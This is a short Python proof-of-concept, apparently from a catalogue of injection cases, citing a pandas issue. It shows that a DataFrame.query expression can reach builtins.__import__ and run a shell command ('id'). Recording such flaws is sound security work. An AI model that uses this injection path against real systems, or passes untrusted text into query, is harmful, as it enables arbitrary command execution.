# Source: https://github.com/pandas-dev/pandas/issues/60602
# Family: data-is-code
# What: DataFrame.query via @pd.core.frame.com.builtins.__import__
import pandas as pd

df = pd.DataFrame({"px": [100.0, 101.5]})
df.query('@pd.core.frame.com.builtins.__import__("os").system("id")')
